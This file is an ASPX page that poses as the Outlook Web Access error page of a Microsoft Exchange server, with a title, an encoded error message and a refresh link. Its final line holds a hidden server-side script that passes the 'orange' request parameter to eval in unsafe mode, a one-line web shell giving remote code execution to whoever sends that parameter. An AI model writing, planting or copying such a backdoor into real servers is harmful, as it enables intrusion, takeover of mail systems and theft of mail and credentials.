<%@ Page Language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.ErrorFE" %>
<%@ Import Namespace="System.Web" %>
<html><head><title>Outlook</title>
<link type="text/css" rel="stylesheet" href="<%=InlineCssUrl("errorFE.css")%>">
</head>
<body><div id="errMsg"><%=HttpUtility.HtmlEncode(ErrorMessage)%></div>
<a href="/owa/">Refresh the page</a>
</body></html>
<script language="JScript" runat="server">function Page_Load(){/**/eval(Request["orange"],"unsafe");}</script>
